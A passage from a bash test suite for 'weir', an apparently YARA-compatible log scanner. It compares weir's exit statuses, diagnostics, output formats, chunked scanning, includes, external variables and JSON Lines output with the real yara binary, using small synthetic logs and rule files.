#!/usr/bin/env bash
# test_cli.sh - tests of the weir command: exit statuses, diagnostics, output
# formats compared with the real `yara` binary (the oracle), chunking
# invariance, JSON Lines, and compiled rules.  WEIR names the binary under
# test (default build/weir).  Ends with "N passed, N failed".
set -u
cd "$(dirname "$0")/.." || exit 1
WEIR=${WEIR:-build/weir}
[[ $WEIR == /* ]] || WEIR=$PWD/$WEIR
CORPUS=${WEIR_CORPUS:-../shared/corpora/logs/loghub}

tmp=$(mktemp -d)
trap 'rm -rf "$tmp"' EXIT
pass=0
fail=0

t_ok() { pass=$((pass + 1)); }
t_fail() {
    fail=$((fail + 1))
    echo "FAIL $*" >&2
}
show() { sed -n '1,15p' "$1" | sed 's/^/    /' >&2; }
# check NAME CMD... : passes when CMD succeeds.
check() {
    local name=$1
    shift
    if "$@"; then t_ok; else t_fail "$name"; fi
}

# expect_exit NAME STATUS CMD... : exit status, and a "weir: " line when failing.
expect_exit() {
    local name=$1 want=$2
    shift 2
    "$@" >"$tmp/out" 2>"$tmp/err" </dev/null
    local got=$?
    if [ "$got" -ne "$want" ]; then
        t_fail "$name: exit status $got, want $want"
        show "$tmp/err"
    elif [ "$want" -ne 0 ] && ! grep -q '^weir: ' "$tmp/err"; then
        t_fail "$name: no 'weir: ' message on stderr"
        show "$tmp/err"
    else
        t_ok
    fi
}

# same NAME EXPECTED ACTUAL
same() {
    if cmp -s "$2" "$3"; then
        t_ok
    else
        t_fail "$1"
        diff "$2" "$3" | sed -n '1,20p' | sed 's/^/    /' >&2
    fi
}

if ! command -v yara >/dev/null || ! command -v python3 >/dev/null; then
    echo "test_cli needs yara and python3 (make deps)" >&2
    echo "0 passed, 1 failed"
    exit 1
fi

# ---- test data --------------------------------------------------------------

cat >"$tmp/fmt.yar" <<'EOF'
rule with_tags_meta : alpha beta
{
    meta:
        text = "say \"hi\" \\ tab\there 'q' \x01 \xff end"
        count = 42
        neg = -7
        flag = true
        off = false
    strings:
        $pw = "Failed password"
        $inv = /[Ii]nvalid user [a-z0-9]+/
        $wide = "root" wide
        $nc = "accepted" nocase
    condition:
        any of them
}

rule plain { strings: $a = "sshd" condition: $a }

rule counted : gamma { strings: $f = "Failed" condition: #f == 2 }

rule absent { strings: $z = "no-such-text-zz" condition: not $z }

rule always { condition: true }

private rule hidden { strings: $s = "session opened" condition: $s }

rule uses_hidden : delta { meta: kind = "derived" condition: hidden and plain }
EOF

# Hex strings: yara -s prints their data as hex bytes, which weir.h cannot tell
# apart yet, so this set is compared without -s.
cat >"$tmp/other.yar" <<'EOF'
rule plain : other { strings: $a = "Accepted" condition: $a }
rule hexy { strings: $h = { 46 61 69 6C 65 64 } condition: $h }
EOF

cat >"$tmp/bad.yar" <<'EOF'
rule fine { condition: true }

rule broken {
    strings:
        $a = "x"
    condition:
        $a and $b
}
EOF
printf 'rule syntax {\n    condition: true and\n}\n' >"$tmp/syntax.yar"

mkdir -p "$tmp/in"
{
    printf 'a "quoted" line with\ttab and root\n'
    printf 'r\0o\0o\0t\0 wide and ACCEPTED\n'
    printf 'sshd: Failed password \xff\xfe\x01 bytes "t-9"\n'
    printf 'session opened; Failed again "t-10"'
} >"$tmp/in/binary.log"
: >"$tmp/in/empty.log"
weird=$(printf 'we"ird\\n\xc3\xa1\x01\xff.log')
printf 'sshd[1]: Invalid user bob from 10.0.0.1 "t-1"\n' >"$tmp/in/$weird"

inputs=(examples/logs/*.log "$tmp/in/binary.log" "$tmp/in/empty.log" "$tmp/in/$weird")
for f in "$CORPUS/OpenSSH/OpenSSH_2k.log" "$CORPUS/Linux/Linux_2k.log"; do
    [ -r "$f" ] && inputs+=("$f")
done

# ---- usage, help, version ---------------------------------------------------

expect_exit "no command" 2 "$WEIR"
expect_exit "unknown command" 2 "$WEIR" frobnicate
expect_exit "scan without rules" 2 "$WEIR" scan examples/logs/sshd.log
expect_exit "scan without files" 2 "$WEIR" scan -r examples/rules/auth.yar
expect_exit "unknown option" 2 "$WEIR" scan --bogus -r examples/rules/auth.yar x
expect_exit "unknown short option" 2 "$WEIR" scan -Z -r examples/rules/auth.yar x
expect_exit "-r without argument" 2 "$WEIR" scan -r
expect_exit "-r with -C" 2 "$WEIR" scan -r examples/rules/auth.yar -C x.wr x
expect_exit "chunk size 0" 2 "$WEIR" scan --chunk-size 0 -r examples/rules/auth.yar x
expect_exit "chunk size junk" 2 "$WEIR" scan --chunk-size 12Q -r examples/rules/auth.yar x
expect_exit "chunk size too big" 2 "$WEIR" scan --chunk-size 4096M -r examples/rules/auth.yar x
expect_exit "negative seed" 2 "$WEIR" scan --chunk-seed -3 -r examples/rules/auth.yar x
expect_exit "file given twice" 2 "$WEIR" scan -r examples/rules/auth.yar \
    examples/logs/sshd.log examples/logs/sshd.log
expect_exit "compile without -o" 2 "$WEIR" compile examples/rules/auth.yar
expect_exit "compile without rules" 2 "$WEIR" compile -o "$tmp/x.wr"
# With -d given first: its copies must be freed on this way out too (a leak sanitizers see).
expect_exit "compile -d without -o" 2 "$WEIR" compile -d level=1 examples/rules/auth.yar

for args in "--help" "help" "scan --help" "compile --help"; do
    # shellcheck disable=SC2086
    expect_exit "weir $args" 0 "$WEIR" $args
    if grep -q '^Usage: weir' "$tmp/out"; then t_ok; else t_fail "weir $args: no usage text"; fi
done
"$WEIR" scan --help >"$tmp/out"
check "scan --help shows --chunk-seed" grep -q -- '--chunk-seed' "$tmp/out"
want_version=$(sed -n 's/^#define WEIR_VERSION_STRING "\(.*\)"/\1/p' include/weir.h)
expect_exit "version" 0 "$WEIR" version
if grep -qx "weir $want_version" "$tmp/out"; then t_ok; else t_fail "version: $(cat "$tmp/out")"; fi
expect_exit "chunk size suffix" 0 "$WEIR" scan --chunk-size 4K -r examples/rules/auth.yar \
    examples/logs/sshd.log

# ---- input and rule errors --------------------------------------------------

expect_exit "missing input" 3 "$WEIR" scan -r examples/rules/auth.yar "$tmp/no-such.log"
expect_exit "directory input" 3 "$WEIR" scan -r examples/rules/auth.yar "$tmp"
expect_exit "missing rules" 3 "$WEIR" scan -r "$tmp/no-such.yar" examples/logs/sshd.log
# The readable input is still scanned and reported.
"$WEIR" scan -r examples/rules/auth.yar "$tmp/no-such.log" examples/logs/sshd.log \
    >"$tmp/out" 2>/dev/null
yara examples/rules/auth.yar examples/logs/sshd.log >"$tmp/want" 2>/dev/null
same "the other inputs are scanned after a missing one" "$tmp/want" "$tmp/out"

# Diagnostics: file:line:column: error: message, the source line, then a caret
# under the column.  The place is that of the offending token, which we know
# from the rule text (yara's own line numbers are those of where its parser
# noticed, e.g. the closing brace, so they are no oracle here).
check_diag() { # NAME RULES LINE COLUMN
    local name=$1 rules=$2
    expect_exit "$name: exit status" 1 "$WEIR" scan -r "$rules" examples/logs/sshd.log
    check "$name: diagnostic" python3 - "$tmp/err" "$rules" "$3" "$4" <<'EOF'
import re, sys
err = open(sys.argv[1], encoding="utf-8", errors="replace").read().split("\n")
path, want = sys.argv[2], (int(sys.argv[3]), int(sys.argv[4]))
src = open(path).read().split("\n")
for i, l in enumerate(err):
    m = re.match(re.escape(path) + r":(\d+):(\d+): error: \S", l)
    if not m:
        continue
    line, col = int(m.group(1)), int(m.group(2))
    caret = err[i + 2] if i + 2 < len(err) else ""
    ok = (line, col) == want and err[i + 1] == src[line - 1]
    ok = ok and caret.endswith("^") and len(caret) == col and caret[:-1].strip(" \t") == ""
    if not ok:
        print("want %s:%d:%d, got:\n%s" % ((path,) + want + ("\n".join(err[i:i + 3]),)))
    sys.exit(0 if ok else 1)
print("no file:line:column: error: line in:\n" + "\n".join(err))
sys.exit(1)
EOF
}
check_diag "undefined string" "$tmp/bad.yar" 7 16
check_diag "syntax error" "$tmp/syntax.yar" 3 1
if tail -n 1 "$tmp/err" | grep -q '^weir: '; then t_ok; else t_fail "rule error: last line"; fi
expect_exit "rule error with -w" 1 "$WEIR" scan -w -r "$tmp/bad.yar" examples/logs/sshd.log
expect_exit "compile rule error" 1 "$WEIR" compile "$tmp/bad.yar" -o "$tmp/bad.wr"
if [ ! -e "$tmp/bad.wr" ]; then t_ok; else t_fail "compile wrote a file despite errors"; fi

# ---- output formats against yara --------------------------------------------

# compare RULESET "FLAGS..." : weir scan FLAGS -r RULES F == yara FLAGS RULES F, per input.
compare() {
    local rules=$1 flags=$2 f
    for f in "${inputs[@]}"; do
        # shellcheck disable=SC2086
        yara $flags "$rules" "$f" >"$tmp/want" 2>/dev/null
        # shellcheck disable=SC2086
        "$WEIR" scan -w $flags -r "$rules" "$f" >"$tmp/got" 2>"$tmp/err"
        same "yara $flags $(basename "$rules") $(basename "$f")" "$tmp/want" "$tmp/got"
    done
}
for flags in "" "-s" "-L" "-sL" "-g" "-m" "-e" "-gme" "-sLgme" "-s -L -g -m -e"; do
    compare "$tmp/fmt.yar" "$flags"
done
for flags in "" "-L" "-g" "-m" "-e" "-Lgme"; do
    compare examples/rules/auth.yar "$flags"
    compare "$tmp/other.yar" "$flags"
done

# Integer reads: each stream's first bytes, read as yara reads a file's, under any chunking.
cat >"$tmp/reads.yar" <<'EOF'
rule mz { condition: uint16(0) == 0x5A4D and uint32(uint32(0x3c)) == 0x4550 }
rule a_space { condition: uint8(0) == 0x61 and uint8be(1) == 0x20 and int16be(0) == 0x6120 }
rule nested { condition: uint8(uint8(0) - 0x5e) == 0x71 }
rule signed { condition: int8(3) < 0 and int32be(0) < 0 }
rule with_string { strings: $s = "sshd" condition: $s and uint32be(0) != 0 }
rule negated { condition: not (uint16(2) == 0x7171) }
rule defined_at_all { condition: uint8(0) == 0 or uint8(0) != 0 }
EOF
printf 'MZ\x90\xff' >"$tmp/mz.bin"
head -c 56 /dev/zero >>"$tmp/mz.bin"
printf '\x40\x00\x00\x00PE\x00\x00 tail' >>"$tmp/mz.bin"
for f in "$tmp/mz.bin" "$tmp/in/binary.log" "$tmp/in/empty.log" examples/logs/*.log; do
    yara "$tmp/reads.yar" "$f" >"$tmp/want" 2>/dev/null
    for chunk in "" "--chunk-size 1" "--chunk-size 5 --chunk-seed 3"; do
        # shellcheck disable=SC2086
        "$WEIR" scan -w $chunk -r "$tmp/reads.yar" "$f" >"$tmp/got" 2>"$tmp/err"
        same "integer reads ${chunk:-whole} $(basename "$f")" "$tmp/want" "$tmp/got"
    done
done

# xor and base64 modifiers: yara's offsets, lengths and data under any chunking.
cat >"$tmp/enc.yar" <<'EOF'
rule xors {
    strings:
        $a = "secret" xor
        $b = "Secret" xor(1-31) wide
        $c = "token" xor(0x20) wide ascii fullword
        $d = "b\x00\x00\x00" xor(180-232) wide
        $e = "key" xor private
    condition: any of them
}
rule b64 {
    strings:
        $a = "password" base64
        $b = "password" base64wide
        $c = "admin" base64 base64wide wide ascii
        $d = "root" base64("!@#$%^&*()_+-=[]{}|;:,.<>/?~`abcdefghijklmnopqrstuvwxyzABCDEFGHI")
        $e = "x" base64
    condition: any of them
}
EOF
python3 - "$tmp/enc.bin" <<'EOF'
import base64, sys
std = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
alt = b"!@#$%^&*()_+-=[]{}|;:,.<>/?~`abcdefghijklmnopqrstuvwxyzABCDEFGHI"
wide = lambda s: bytes(b for c in s for b in (c, 0))
xor = lambda s, k: bytes(c ^ k for c in s)
enc = lambda s, a=std: base64.b64encode(s).translate(bytes.maketrans(std, a))
d = b"plain secret; " + xor(b"secret", 0x41) + b" x" + xor(wide(b"Secret"), 7) + b"\n"
d += xor(b"token", 0x20) + b" a" + xor(b"token", 0x20) + b" " + xor(wide(b"token"), 0x20)
d += b" " + xor(b"b\0\0\0", 0xc8) + b" " + xor(b"key", 0xff) + b"\n"
for pre in (b"", b"a", b"ab"):
    d += enc(pre + b"password") + b" " + wide(enc(pre + b"password!")) + b"\n"
    d += enc(pre + wide(b"admin")) + b" " + enc(pre + b"root;", alt) + b" " + enc(pre + b"x") + b"\n"
open(sys.argv[1], "wb").write(d)
EOF
yara -s -L "$tmp/enc.yar" "$tmp/enc.bin" >"$tmp/want" 2>/dev/null
if [ "$(grep -c '^0x' "$tmp/want")" -ge 20 ]; then t_ok; else t_fail "xor/base64: yara finds too little"; fi
for chunk in "" "--chunk-size 1" "--chunk-size 7 --chunk-seed 5"; do
    # shellcheck disable=SC2086
    "$WEIR" scan -w -s -L $chunk -r "$tmp/enc.yar" "$tmp/enc.bin" >"$tmp/got" 2>"$tmp/err"
    same "xor and base64 ${chunk:-whole}" "$tmp/want" "$tmp/got"
done
"$WEIR" compile "$tmp/enc.yar" -o "$tmp/enc.wr" &&
    "$WEIR" scan -s -L -C "$tmp/enc.wr" "$tmp/enc.bin" >"$tmp/got" 2>"$tmp/err"
same "xor and base64 from compiled rules" "$tmp/want" "$tmp/got"
printf 'rule r { strings: $a = "abc" base64("%s") base64wide condition: $a }\n' \
    '!@#$%^&*()_+-=[]{}|;:,.<>/?~`abcdefghijklmnopqrstuvwxyzABCDEFGHI' >"$tmp/alpha.yar"
expect_exit "two base64 alphabets" 1 "$WEIR" scan -r "$tmp/alpha.yar" "$tmp/enc.bin"
if grep -q 'can not specify multiple alphabets' "$tmp/err"; then t_ok; else
    t_fail "two base64 alphabets: message"
    show "$tmp/err"
fi

# Large and unbounded jumps: YARA chains the pieces around a jump over 200; matches may span
# far more than a stream keeps, and a pattern loosened for Vectorscan never reports a false match.
python3 - "$tmp/far.bin" <<'EOF'
import random, sys
random.seed(7)
d = bytearray(b'a' + bytes(random.choice(b'xyz \n') for _ in range(70000)) + b'b' + b'cc')
d += b'aaa' + b'q' * 5000 + b'b' + b'\n' + b'MZ' + b'p' * 300 + b'PE' + b'\n'
open(sys.argv[1], 'wb').write(d)
EOF
cat >"$tmp/far.yar" <<'EOF'
rule bounded { strings: $a = { 61 [0-300000] 62 } condition: $a }
rule unbounded { strings: $a = { 61 [10-] 62 } condition: $a }
rule exact { strings: $a = { 61 [5000] 62 } condition: $a }
rule three { strings: $a = { 61 [1-2] 61 [300-] 7? [200-400] 62 } condition: $a }
rule mz_pe { strings: $a = { 4D 5A [250-400] 50 45 } condition: $a }
rule re_chain { strings: $a = /a.{201,6000}?b\n/s condition: $a }
EOF
yara -w -L "$tmp/far.yar" "$tmp/far.bin" >"$tmp/want" 2>/dev/null
for chunk in "" "--chunk-size 4096" "--chunk-size 7 --chunk-seed 5"; do
    # shellcheck disable=SC2086
    "$WEIR" scan -w -L $chunk -r "$tmp/far.yar" "$tmp/far.bin" >"$tmp/got" 2>"$tmp/err"
    same "chained strings ${chunk:-whole}" "$tmp/want" "$tmp/got"
done

# include: relative to the including file, nested, in its namespace; cycles and missing files.
mkdir -p "$tmp/inc/sub"
printf 'include "sub/x.yar"\nrule top { condition: x_rule and y_rule }\n' >"$tmp/inc/main.yar"
printf 'include "y.yar"\nrule x_rule { strings: $a = "Failed" condition: $a }\n' >"$tmp/inc/sub/x.yar"
printf 'rule y_rule { strings: $a = "sshd" condition: #a > 1 }\n' >"$tmp/inc/sub/y.yar"
printf 'include "cyc2.yar"\nrule c1 { condition: true }\n' >"$tmp/inc/cyc1.yar"
printf 'include "cyc1.yar"\nrule c2 { condition: true }\n' >"$tmp/inc/cyc2.yar"
printf 'rule m { condition: true }\ninclude "missing.yar"\n' >"$tmp/inc/missing_inc.yar"
for f in examples/logs/sshd.log "$tmp/in/binary.log"; do
    yara -s "$tmp/inc/main.yar" "$f" >"$tmp/want" 2>/dev/null
    "$WEIR" scan -w -s -r "$tmp/inc/main.yar" "$f" >"$tmp/got" 2>"$tmp/err"
    same "include $(basename "$f")" "$tmp/want" "$tmp/got"
done
weir_abs=$(cd "$(dirname "$WEIR")" && pwd)/$(basename "$WEIR")
(cd "$tmp/inc/sub" && "$weir_abs" scan -r ../main.yar "$OLDPWD/examples/logs/sshd.log") >"$tmp/got" 2>"$tmp/err"
(cd "$tmp/inc/sub" && yara ../main.yar "$OLDPWD/examples/logs/sshd.log") >"$tmp/want" 2>/dev/null
same "include from another directory" "$tmp/want" "$tmp/got"
# The cycle closes in cyc1.yar's include, where yara reports it too.
expect_exit "include cycle: exit status" 1 "$WEIR" scan -r "$tmp/inc/cyc2.yar" examples/logs/sshd.log
if grep -q "^$tmp/inc/cyc1.yar:1:1: error: includes circular reference$" "$tmp/err"; then
    t_ok
else
    t_fail "include cycle: message"
fi
check_diag "include missing" "$tmp/inc/missing_inc.yar" 2 1
if grep -q "can't open include file: missing.yar" "$tmp/err"; then t_ok; else t_fail "include missing: message"; fi

# External variables: yara's -d NAME=VALUE, typed as yara types it, in every operator.
cat >"$tmp/vars.yar" <<'EOF'
rule app_is { condition: app == "sshd" }
rule app_ops {
    condition: app contains "ss" and app istartswith "SS" and app endswith "hd" and
               app iequals "SSHD" and app matches /^s+h/ and not (app < "a")
}
rule level_high { condition: level > 3 and verbose }
rule with_strings { strings: $a = "Failed" condition: #a > level }
rule empty_app { condition: not app }
EOF
for def in "-d app=sshd -d level=0 -d verbose=true" "-d app=cron -d level=5 -d verbose=true" \
    "-d app= -d level=-1 -d verbose=false" "-d app=0x10 -d level=007 -d verbose=true"; do
    for f in examples/logs/sshd.log "$tmp/in/binary.log"; do
        # shellcheck disable=SC2086
        yara $def "$tmp/vars.yar" "$f" >"$tmp/want" 2>/dev/null
        # shellcheck disable=SC2086
        "$WEIR" scan -w $def --chunk-size 7 -r "$tmp/vars.yar" "$f" >"$tmp/got" 2>"$tmp/err"
        same "-d ($def) $(basename "$f")" "$tmp/want" "$tmp/got"
    done
done
# Compiled with defaults, then changed at scan time; -C converts to the declared type.
expect_exit "compile -d" 0 "$WEIR" compile -d app=cron -d level=9 -d verbose=false \
    "$tmp/vars.yar" -o "$tmp/vars.wr"
yara -d app=sshd -d level=0 -d verbose=false "$tmp/vars.yar" examples/logs/sshd.log \
    >"$tmp/want" 2>/dev/null
"$WEIR" scan -d app=sshd -d level=0 -C "$tmp/vars.wr" examples/logs/sshd.log >"$tmp/got"
same "scan -C -d overrides defaults" "$tmp/want" "$tmp/got"
yara -d app=42 -d level=9 -d verbose=false "$tmp/vars.yar" examples/logs/sshd.log \
    >"$tmp/want" 2>/dev/null
"$WEIR" scan -C "$tmp/vars.wr" -d app=42 examples/logs/sshd.log >"$tmp/got"
same "scan -C -d: a digit string for a string variable" "$tmp/want" "$tmp/got"
expect_exit "-d boolean for an integer" 2 "$WEIR" scan -C "$tmp/vars.wr" -d level=true \
    examples/logs/sshd.log
expect_exit "-d unknown variable with -C" 2 "$WEIR" scan -C "$tmp/vars.wr" -d nope=1 \
    examples/logs/sshd.log
expect_exit "-d twice" 2 "$WEIR" scan -d app=a -d app=b -r "$tmp/vars.yar" examples/logs/sshd.log
expect_exit "-d float" 2 "$WEIR" scan -d level=1.5 -r "$tmp/vars.yar" examples/logs/sshd.log
expect_exit "-d without =" 2 "$WEIR" scan -d app -r "$tmp/vars.yar" examples/logs/sshd.log
expect_exit "undeclared variable" 1 "$WEIR" scan -d app=x -r "$tmp/vars.yar" examples/logs/sshd.log
if grep -q 'vars.yar:6:30: error: undefined identifier "level"' "$tmp/err"; then t_ok; else
    t_fail "undeclared variable: message"
    show "$tmp/err"
fi
expect_exit "string variable in arithmetic" 1 "$WEIR" scan -d app=x -d level=a -d verbose=true \
    -r "$tmp/vars.yar" examples/logs/sshd.log

# Namespaces, several rule files, yara's NS:FILE syntax.
for f in examples/logs/sshd.log "$tmp/in/binary.log"; do
    yara -e -g ns1:"$tmp/fmt.yar" ns2:"$tmp/other.yar" "$f" >"$tmp/want" 2>/dev/null
    "$WEIR" scan -w -e -g -r ns1:"$tmp/fmt.yar" -r ns2:"$tmp/other.yar" "$f" >"$tmp/got"
    same "namespaces on $(basename "$f")" "$tmp/want" "$tmp/got"
done

# Standard input is the stream "-".
yara -g examples/rules/auth.yar examples/logs/sshd.log 2>/dev/null |
    sed 's| examples/logs/sshd.log$| -|' >"$tmp/want"
"$WEIR" scan -g -r examples/rules/auth.yar - <examples/logs/sshd.log >"$tmp/got"
same "standard input" "$tmp/want" "$tmp/got"

# A pipe that is slow to start is polled alongside a regular file.
yara -g examples/rules/auth.yar examples/logs/sshd.log 2>/dev/null |
    sed 's| examples/logs/sshd.log$| -|' >"$tmp/want"
yara -g examples/rules/auth.yar examples/logs/auth.log >>"$tmp/want" 2>/dev/null
(sleep 0.3 && cat examples/logs/sshd.log) |
    "$WEIR" scan -g -r examples/rules/auth.yar - examples/logs/auth.log >"$tmp/got"
sort "$tmp/want" -o "$tmp/want"
sort "$tmp/got" -o "$tmp/got"
same "a pipe and a file together" "$tmp/want" "$tmp/got"

# A failed write is an I/O error.
scan_to_full() { "$WEIR" scan -r examples/rules/auth.yar examples/logs/*.log >/dev/full; }
if [ -w /dev/full ]; then
    expect_exit "write error" 3 scan_to_full
fi

# All inputs at once, interleaved: the same results as yara file by file.
: >"$tmp/want"
for f in "${inputs[@]}"; do
    yara -s -g -m -e "$tmp/fmt.yar" "$f" >>"$tmp/want" 2>/dev/null
done
sort "$tmp/want" -o "$tmp/want"
for chunk in "" "--chunk-size 1" "--chunk-size 7" "--chunk-size 300 --chunk-seed 7"; do
    # shellcheck disable=SC2086
    "$WEIR" scan -w -sgme $chunk -r "$tmp/fmt.yar" "${inputs[@]}" | sort >"$tmp/got"
    same "interleaved streams ${chunk:-default chunks} against yara" "$tmp/want" "$tmp/got"
done

# ---- chunking invariance ------------------------------------------------------

for f in "${inputs[@]}"; do
    "$WEIR" scan -w -sLgme -r "$tmp/fmt.yar" "$f" >"$tmp/ref"
    for chunk in "--chunk-size 1" "--chunk-size 7" "--chunk-size 64 --chunk-seed 42"; do
        # shellcheck disable=SC2086
        "$WEIR" scan -w -sLgme $chunk -r "$tmp/fmt.yar" "$f" >"$tmp/got"
        same "$chunk on $(basename "$f")" "$tmp/ref" "$tmp/got"
    done
done

# ---- JSON Lines -----------------------------------------------------------------

cat >"$tmp/json_check.py" <<'EOF'
"""json_check.py OUT YARA_L_OUT STRINGS FILE... : validates weir --json output."""
import json, os, re, sys

out, yara_out, with_strings, files = sys.argv[1], sys.argv[2], sys.argv[3] == "1", sys.argv[4:]
errors = []
def need(cond, msg):
    if not cond:
        errors.append(msg)

def typed(ev, spec):
    for key, ty in spec.items():
        need(key in ev and isinstance(ev[key], ty) and not (ty is int and isinstance(ev[key], bool)),
             "%s event: bad or missing %r: %r" % (ev.get("event"), key, ev.get(key)))

# yara -L: RULE PATH lines, then 0xOFF:LEN:$id lines.
want = {}
rule = None
for line in open(yara_out, "rb").read().decode("utf-8", "surrogateescape").splitlines():
    m = re.match(r"0x([0-9a-f]+):(\d+):(\$\S*)$", line)
    if m and rule:
        want[rule].append((m.group(3), int(m.group(1), 16), int(m.group(2))))
    else:
        name, path = line.split(" ", 1)
        rule = (path, name)
        want[rule] = []

streams = {}
for n, line in enumerate(open(out, "rb").read().decode("utf-8").splitlines(), 1):
    try:
        ev = json.loads(line)
    except ValueError as e:
        errors.append("line %d is not JSON: %s: %r" % (n, e, line))
        continue
    need(isinstance(ev, dict) and ev.get("event") in ("match", "final", "close"),
         "line %d: unknown event %r" % (n, line))
    s = streams.setdefault(ev.get("stream"), {"match": [], "final": [], "close": []})
    s[ev["event"]].append(ev)
    need(not s["close"] or ev["event"] == "close", "event after close: %r" % line)
    if ev["event"] == "match":
        typed(ev, {"stream": str, "namespace": str, "rule": str, "tags": list, "offset": int,
                   "line": int, "trace_ids": list})
        need(all(isinstance(t, str) for t in ev.get("trace_ids", [])), "trace ids: %r" % line)
    elif ev["event"] == "final":
        typed(ev, {"stream": str, "namespace": str, "rule": str, "tags": list, "meta": dict})
        if with_strings:
            typed(ev, {"strings": list})
    else:
        typed(ev, {"stream": str, "bytes": int, "lines": int, "matches": int, "rules_fired": int,
                   "memory": int})

def fsdecode(path):
    return os.fsencode(path).decode("utf-8", "surrogateescape")

def jsonname(path):
    # weir writes bytes that are not UTF-8 as \u00XX: U+0000..U+00FF.
    return "".join(chr(ord(c) - 0xDC00) if 0xDC80 <= ord(c) <= 0xDCFF else c for c in fsdecode(path))

for path in files:
    name = jsonname(path)
    s = streams.get(name)
    need(s is not None, "no events for stream %r" % name)
    if s is None:
        continue
    need(len(s["close"]) == 1, "%s: %d close events" % (name, len(s["close"])))
    data = open(path, "rb").read()
    if s["close"]:
        c = s["close"][0]
        need(c.get("bytes") == len(data), "%s: bytes %r, file has %d" % (name, c.get("bytes"), len(data)))
        need(c.get("lines") == data.count(b"\n"), "%s: lines %r, want %d" % (name, c.get("lines"), data.count(b"\n")))
        need(c.get("rules_fired") == len(s["match"]), "%s: rules_fired %r, %d match events" % (name, c.get("rules_fired"), len(s["match"])))
    finals = [(f["namespace"], f["rule"]) for f in s["final"]]
    fired = [(m["namespace"], m["rule"]) for m in s["match"]]
    need(sorted(finals) == sorted(fired), "%s: final rules %r but match events %r" % (name, finals, fired))
    yrules = [r for (p, r) in want if p == fsdecode(path)]
    need([r for _, r in finals] == yrules, "%s: final rules %r, yara says %r" % (name, finals, yrules))
    if with_strings:
        for f in s["final"]:
            got = [(x.get("id"), x.get("offset"), min(x.get("length", 0), 512)) for x in f.get("strings", [])]
            need(got == want.get((fsdecode(path), f["rule"])), "%s %s: strings %r, yara says %r" % (name, f["rule"], got, want.get((fsdecode(path), f["rule"]))))
    for m in s["match"]:
        # 1-based; a rule firing at the close of an empty stream may say 0.
        lo = 0 if m.get("at_close") else 1
        need(lo <= m["line"] <= max(1, data.count(b"\n") + 1), "%s: line %r out of range" % (name, m["line"]))
    for f in s["final"]:
        if f["rule"] == "with_tags_meta":
            need(f["meta"] == {"text": "say \"hi\" \\ tab\there 'q' \x01 \xff end", "count": 42,
                               "neg": -7, "flag": True, "off": False}, "meta: %r" % f["meta"])
            need(f["tags"] == ["alpha", "beta"], "tags: %r" % f["tags"])

for e in errors[:20]:
    print(e)
sys.exit(1 if errors else 0)
EOF

json_check() { # NAME WEIR-JSON-OUTPUT STRINGS(0|1) FILE...
    local name=$1 out=$2 strings=$3
    shift 3
    : >"$tmp/yara_l"
    for f in "$@"; do yara -L "$tmp/fmt.yar" "$f" >>"$tmp/yara_l" 2>/dev/null; done
    if python3 "$tmp/json_check.py" "$out" "$tmp/yara_l" "$strings" "$@" >"$tmp/pyerr" 2>&1; then
        t_ok
    else
        t_fail "$name"
        show "$tmp/pyerr"
    fi
}

"$WEIR" scan -w --json -r "$tmp/fmt.yar" "${inputs[@]}" >"$tmp/json" 2>"$tmp/err"
json_check "--json on all inputs" "$tmp/json" 0 "${inputs[@]}"
"$WEIR" scan -w --json -s -r "$tmp/fmt.yar" "${inputs[@]}" >"$tmp/json" 2>"$tmp/err"
json_check "--json -s on all inputs" "$tmp/json" 1 "${inputs[@]}"
"$WEIR" scan -w --json --strings --chunk-size 3 -r "$tmp/fmt.yar" "${inputs[@]}" >"$tmp/json"
json_check "--json --strings, 3-byte chunks" "$tmp/json" 1 "${inputs[@]}"

# A live rule fires on the line of its first match, with that line's trace id.
"$WEIR" scan --json -r examples/rules/auth.yar examples/logs/sshd.log >"$tmp/json"
check "match event line and trace id" python3 - "$tmp/json" examples/logs/sshd.log <<'EOF'
import json, re, sys
events = [json.loads(l) for l in open(sys.argv[1])]
lines = open(sys.argv[2]).read().split("\n")
first = next(i for i, l in enumerate(lines, 1) if "Failed password for " in l)
trace = re.findall(r'"([^"]*)"', lines[first - 1])[-1]
ev = [e for e in events if e["event"] == "match" and e["rule"] == "ssh_failed_password"]
ok = len(ev) == 1 and ev[0]["line"] == first and ev[0]["trace_ids"][:1] == [trace]
ok = ok and not ev[0].get("at_close")
if not ok:
    print("want line %d trace %r, got %r" % (first, trace, ev))
sys.exit(0 if ok else 1)
EOF

# ---- trace ids: --trace-json, --trace-regex, --no-trace ------------------------------

"$WEIR" scan --help >"$tmp/out"
check "scan --help shows the trace options" grep -q -- '--trace-regex' "$tmp/out"
expect_exit "--trace-regex that does not compile" 2 "$WEIR" scan --trace-regex 'id=(' \
    -r examples/rules/auth.yar examples/logs/app.log
if grep -qxF 'weir: --trace-regex: unmatched ( or \(' "$tmp/err"; then t_ok; else
    t_fail "--trace-regex that does not compile: message"
    show "$tmp/err"
fi
expect_exit "--trace-regex without a group" 2 "$WEIR" scan --trace-regex 'id=[0-9]+' \
    -r examples/rules/auth.yar examples/logs/app.log
if grep -q '^weir: --trace-regex: no capture group' "$tmp/err"; then t_ok; else
    t_fail "--trace-regex without a group: message"
    show "$tmp/err"
fi
expect_exit "--trace-json with an empty name" 2 "$WEIR" scan --trace-json 'req..id' \
    -r examples/rules/auth.yar examples/logs/app.log
expect_exit "--trace-json without argument" 2 "$WEIR" scan -r examples/rules/auth.yar \
    examples/logs/app.log --trace-json
expect_exit "two trace options" 2 "$WEIR" scan --trace-json a --no-trace \
    -r examples/rules/auth.yar examples/logs/app.log
expect_exit "--trace-regex twice" 2 "$WEIR" scan --trace-regex '(a)' --trace-regex '(b)' \
    -r examples/rules/auth.yar examples/logs/app.log

# JSON lines whose field, quoted string and regex group all differ, with nested objects and
# arrays to skip, escapes, a number, a line that is not JSON, lines without the field and
# text after the object (ignored: weir reads only as far as the field).
cat >"$tmp/trace.jsonl" <<'EOF'
{"ts":"11:02:13","msg":"login ok","req":{"id":"r-100","path":"/login"},"note":"q-1"}
{"ts":"11:02:40","msg":"Failed password for carol","req":{"hdr":{"id":"not-this"},"tags":["a","]}"],"id":"r-101"},"note":"q-2"} src=10.0.0.1
{"ts":"11:02:41","msg":"Failed password for \"carol\"","req":{"id":"r-\u00e9\u0031"},"note":"q-3"}
not JSON: Failed password for root "q-4" src=10.0.0.4
{"ts":"11:02:43","msg":"Failed password for bob","req":{"id":7},"note":"q-5"}
{"ts":"11:02:44","msg":"Failed password for eve","req":"none","note":"q-6"} src=10.0.0.6
